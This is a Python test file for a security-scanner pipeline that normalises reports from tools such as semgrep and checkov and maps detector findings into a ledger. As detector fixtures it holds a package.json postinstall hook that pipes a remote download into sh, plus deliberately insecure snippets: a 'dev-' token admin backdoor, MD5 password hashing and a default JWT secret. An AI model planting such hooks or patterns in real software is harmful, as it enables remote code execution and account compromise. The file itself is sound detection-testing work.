"""Diagnostics of scanner documents, ledger mappings of detector families, public keys: fixtures with every case and its clean twin."""

import json

import pytest
from riskframe.operators import ledger as lg
from riskframe.operators import normalize as nz
from riskframe.operators.detect import engine

REPORTS = "repo string, snapshot string, tool string, raw string"


def checkov(check="terraform", failed=(), passed=(), skipped=(), parsing=(), counts=None):
    return {"check_type": check, "results": {"failed_checks": list(failed), "passed_checks": list(passed), "skipped_checks": list(skipped), "parsing_errors": list(parsing)}, "summary": counts or {}}


CASES = [
    # tool, document, diagnostics as (kind, subject, path, reason, n), outcome
    ("semgrep", {"results": [], "errors": []}, [], "ok"),
    ("semgrep", {"results": [], "errors": [{"type": "Timeout", "rule_id": "r1", "path": "a.js"}]}, [("rule-incomplete", "r1", "a.js", "Timeout", 1)], "partial"),
    ("semgrep", {"results": [], "errors": [{"type": ["PartialParsing", [{"path": "b.js"}]], "level": "warn", "path": "b.js"}]}, [("file-limitation", "", "b.js", "partial-parse", 1)], "ok"),
    ("semgrep", {"results": [], "errors": [{"type": "Syntax error", "level": "warn", "location": {"path": "c.js"}}]}, [("file-limitation", "", "c.js", "parse-failed", 1)], "ok"),
    ("semgrep", {"results": [], "errors": [{"type": "Syntax error", "level": "warn", "path": "x/node_modules/c.js"}]}, [("limitation-excluded", "", "x/node_modules/c.js", "parse-failed", 1)], "ok"),
    ("semgrep", {"results": [], "errors": [{"type": "Syntax error", "level": "error", "path": "c.js"}]}, [("scanner-error", "", "c.js", "Syntax error", 1)], "error"),
    ("semgrep", {"results": [], "errors": [{"type": "Timeout"}]}, [("scanner-error", "", "", "Timeout", 1)], "error"),
    ("semgrep", {"results": [], "errors": [{"type": 7}, {}]}, [("scanner-error", "", "", "7", 1), ("scanner-error", "", "", "error", 1)], "error"),
    ("semgrep", {"results": [], "errors": [], "skipped_rules": [{"rule_id": "q"}, "z"]}, [("skipped", "", "", "rules", 2)], "ok"),
    ("checkov", checkov(failed=[{"id": 1}], passed=[], counts={"failed": 1, "passed": 0, "skipped": 0}), [], "ok"),
    ("checkov", checkov(failed=[{"id": 1}], counts={"failed": 3}), [("contradiction", "terraform", "", "failed", 1)], "error"),
    ("checkov", checkov(passed=[1, 2], counts={"passed": -2}), [("contradiction", "terraform", "", "passed", 1)], "error"),
    ("checkov", checkov(passed=[1], parsing=["a.tf", "x/vendor/node_modules/b.tf"], counts={"parsing_errors": 2}), [("file-limitation", "terraform", "a.tf", "parse-failed", 1), ("limitation-excluded", "terraform", "x/vendor/node_modules/b.tf", "parse-failed", 1)], "ok"),
    ("checkov", checkov(parsing=["a.tf"], counts={"parsing_errors": 1}), [("scanner-error", "terraform", "", "no evaluated resources", 1)], "error"),
    ("checkov", checkov(passed=[1], parsing=["a.tf"], counts={"parsing_errors": 4}), [("file-limitation", "terraform", "a.tf", "parse-failed", 1), ("scanner-error", "terraform", "", "not attributed to a file", 3)], "error"),
    ("checkov", checkov(passed=[1], counts={"parsing_errors": "many"}), [("invalid-count", "terraform", "", "parsing_errors", 1)], "error"),
    ("checkov", [checkov("a", skipped=[1, 2]), checkov("b", failed=[1], counts={"failed": 2})], [("skipped", "a", "", "checks", 2), ("contradiction", "b", "", "failed", 1)], "error"),
    ("checkov", {"results": {"failed_checks": []}, "passed": 0, "failed": 0, "skipped": "x"}, [("invalid-count", "checkov", "", "skipped", 1)], "error"),
    ("bandit", {"errors": [], "results": [], "metrics": {"_totals": {"nosec": 0, "skipped_tests": 3}}}, [("skipped", "", "", "tests", 3)], "ok"),
    ("bandit", {"errors": [{"reason": "x"}], "results": [], "metrics": {}}, [("scanner-error", "", "", "reported errors", 1)], "error"),
    ("bandit", {"errors": [], "results": [], "metrics": {"_totals": {"nosec": -1}}}, [("invalid-count", "", "", "nosec", 1)], "error"),
    ("brakeman", {"warnings": [], "errors": ["x"]}, [("scanner-error", "", "", "reported errors", 1)], "error"),
    ("brakeman", {"warnings": [], "errors": []}, [], "ok"),
    ("gitleaks", [], [], "ok"),
]


def test_every_diagnostic(spark):
    rows = [("r", str(i), tool, json.dumps(doc)) for i, (tool, doc, _d, _o) in enumerate(CASES)] + [("r", "x", "semgrep", "{"), ("r", "y", "checkov", None), ("r", "z", "trufflehog", "{}"), ("r", "w", "checkov", "[null, 3]")]
    df = spark.createDataFrame(rows, REPORTS)
    got = {}
    for d in nz.report_diagnostics(df).collect():
        got.setdefault(d.snapshot, []).append((d.kind, d.subject, d.path, d.reason, d.n))
    outcome = {r.snapshot: (r.outcome, r.rule_errors, r.errors) for r in nz.report_validity(df).collect()}
    for i, (tool, doc, want, verdict) in enumerate(CASES):
        assert sorted(got.get(str(i), [])) == sorted(want), (tool, doc)
        assert outcome[str(i)][0] == verdict, (tool, doc)
    assert outcome["x"][0] == outcome["y"][0] == "parse_failed" and "x" not in got and "z" not in outcome
    assert nz.report_diagnostics(df.limit(0)).count() == 0


CODE = "repo string, path string, content string"


def test_combined_packs_agree_with_single_ones(spark):
    texts = ["if (token.startsWith('dev-')) return admin;", "const h = createHash('md5').update(password).digest('hex')", "app.post('/webhooks/stripe', (req, res) => handle(req.body))", "res.send('<!DOCTYPE html><html>')",
             "introspection: true, graphql", "const out = await generateText({prompt: chunkText});", "chrome.storage.local.get('plan'); if (plan >= PRO) run();", "", None]
    rows = [(f"r{i % 3}", f"src/api/f{i}.js", texts[i % len(texts)]) for i in range(40)] + [("r1", "docker-compose.yml", "services:\n  a:\n    privileged: true")]
    files = spark.createDataFrame(rows, CODE)
    got = sorted(map(tuple, engine.all_file_findings(files, lg.file_packs()).select("family", "repo", "path", "kind", "attack_class", "severity").collect()))
    want = sorted((n, *map(str, r)) for n, p in lg.file_packs().items() for r in engine.file_findings(engine.with_roles(files), p).select("repo", "path", "kind", "attack_class", "severity").collect())
    assert got == want and len(got) > 10
    got = sorted(map(tuple, engine.all_repo_findings(files, lg.repo_packs()).select("family", "repo", "kind", "attack_class", "severity").collect()))
    want = sorted((n, *map(str, r)) for n, p in lg.repo_packs().items() for r in engine.repo_findings(engine.with_roles(files), p).select("repo", "kind", "attack_class", "severity").collect())
    assert got == want and len(got) > 3


@pytest.mark.parametrize("name", list(lg.FAMILIES))
def test_every_family(spark, name):
    """An unknown kind without values takes the family's, its own values count unless settled, special kinds are settled."""
    fam = lg.FAMILIES[name]
    kind = fam.only[-1] if fam.only else "some-kind"
    rows = [("r", "a.js", kind, None, None, None), ("r", "b.js", kind, "own-class", "CRITICAL", "HIGH"), ("r", None, kind, "", "", "")] + [("r", "k.js", k, "own-class", "INFO", "HIGH") for k in fam.kinds]
    if fam.only:
        rows.append(("r", "gone.js", "other", None, None, None))
    df = spark.createDataFrame(rows, "repo string, path string, kind string, attack_class string, severity string, confidence string")
    out = {(r.location, r.rule_id): r for r in lg.family_to_ledger(df, name).collect()}
    assert len(out) == len(rows) - bool(fam.only)
    a, b, c = out["a.js", kind], out["b.js", kind], out[fam.place, kind]
    for r in (a, c):
        assert (r.family, r.category, r.attack_class, r.severity, r.confidence, r.status) == (name, fam.category, fam.attack_class, fam.severity, fam.confidence, "open")
    for column, own in (("attack_class", "own-class"), ("severity", "CRITICAL"), ("confidence", "HIGH")):
        assert b[column] == (getattr(fam, column) if column in fam.settled else own)
    for k, values in fam.kinds.items():
        assert all(out["k.js", k][column] == v for column, v in values.items())


def test_public_keys(spark):
    rows = [("r", "static-secret", "JWT found", "app/src/a.js"), ("r", "static-sast", "A JSON Web Token", "src\\a.js"), ("r", "static-secret", "JWT found", "both.js"), ("r", "static-secret", "other", "src/a.js"),
            ("q", "static-secret", "JWT found", "src/a.js"), ("r", "static-sca", "jwt", "src/a.js"), ("r", "static-secret", "jwt", "notsrc/a.js"), ("r", "static-secret", None, None), ("r", "static-secret", "jwt", "src/a.js")]
    led = spark.createDataFrame([(*r, "secret", "HIGH", "HIGH", i) for i, r in enumerate(rows)], "repo string, category string, title string, file string, attack_class string, severity string, confidence string, i int")
    tiers = spark.createDataFrame([("r", "src/a.js", "anon"), ("r", "src/a.js", "anon"), ("r", "both.js", "anon"), ("r", "both.js", "service_role"), (None, "src/a.js", "anon"), ("q", None, "anon")], "repo string, path string, role string")
    out = {r.i: (r.downgraded, r.attack_class, r.severity, r.confidence) for r in lg.public_key_downgrade(led, tiers).collect()}
    down, same = (True, "client-exposure", "INFO", "LOW"), (False, "secret", "HIGH", "HIGH")
    assert out == {0: down, 1: down, 2: same, 3: same, 4: same, 5: same, 6: same, 7: same, 8: down}
    assert not any(r.downgraded for r in lg.public_key_downgrade(led, tiers.limit(0)).collect())


def test_detector_ledger_has_each_family(spark):
    lines = {"src/api/a.js": "if (token.startsWith('dev-')) return admin;\nconst h = createHash('md5').update(password).digest('hex');\nconst s = process.env.JWT_SECRET || 'dev-secret-key';",
             "web/package.json": json.dumps({"dependencies": {"next": "^1", "left": "*"}, "scripts": {"postinstall": "curl http://x | sh"}}), "web/src/b.ts": "const v = process.env.NEXT_PUBLIC_API_SECRET; 'sb_publishable_0123456789ab'",
             "db/a.sql": "CREATE TABLE t (id int, user_id uuid);", "app/M.xml": "<application\n android:usesCleartextTraffic=\"true\">", "src/api/c.js": "res.json(user); // email\n", "src/api/h.js": "res.send('<!DOCTYPE html><html>')"}
    out = lg.detector_ledger(spark.createDataFrame([("r", p, t) for p, t in lines.items()], CODE)).collect()
    by = {(r.family, r.rule_id): r for r in out}
    assert by["row-security", "missing-rls-public-key"].severity == "HIGH" and by["key-tiers", "hosted-database-key-anon"].severity == "INFO"
    assert by["dependencies", "malicious-install-script"].location == "web/package.json" and not any(r.rule_id == "unpinned" for r in out)
    assert by["profile", "android-cleartext"].location == "app/M.xml:2" and by["client-exposure", "public-name"].confidence == "HIGH"
    assert {"auth-backdoors", "crypto", "secret-defaults", "pii", "transport"} <= {r.family for r in out}
    assert len(out) == len({(r.family, r.rule_id, r.location, r.semantic_id) for r in out})
